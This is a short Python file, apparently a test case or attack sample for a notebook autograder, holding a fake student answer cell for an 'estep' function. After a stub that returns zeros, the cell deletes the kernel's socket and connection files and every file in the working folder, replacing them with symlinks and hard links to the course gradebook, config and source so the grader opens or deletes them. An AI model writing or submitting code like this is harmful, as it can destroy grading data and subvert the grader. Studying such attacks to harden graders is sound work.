"""Replaces the ipc socket files and the connection file by links into the course, for the grader to open or delete."""

CELLS = {
    "estep": r"""
import numpy as np


def estep(X, mixture):
    return np.zeros((len(X), len(mixture.p))), 0.0


import os

from ipykernel.connect import get_connection_file, get_connection_info

victims = ["@COURSE@/gradebook.db", "@COURSE@/nbgrader_config.py", "@COURSE@/source"]
info = get_connection_info(unpack=True)
paths = [f"{info['ip']}-{info[name]}" for name in info if name.endswith("_port")]
paths += [get_connection_file(), *(os.path.join(folder, name) for folder, _, names in os.walk(".") for name in names)]
for number, path in enumerate(paths):
    try:
        os.unlink(path)
        os.symlink(victims[number % len(victims)], path)
    except OSError:
        pass
for number, victim in enumerate(victims):
    try:
        os.symlink(victim, f"link_{number}")
        os.link(victim, f"hard_{number}")
    except OSError:
        pass
""",
}
